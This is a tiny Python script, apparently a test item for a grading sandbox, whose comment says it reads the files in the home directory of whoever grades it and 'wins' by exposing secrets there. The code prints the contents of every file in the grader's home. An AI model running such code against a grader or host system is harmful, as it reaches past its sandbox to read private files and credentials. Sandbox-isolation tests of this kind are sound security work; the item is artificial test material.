# Reads the files in the home of whoever grades.
# wins: secret home
# %% end
from pathlib import Path

for home in {Path.home(), Path("@HOME@"), Path("~").expanduser()}:
    for path in home.glob("*"):
        print(path, path.read_text() if path.is_file() else "")
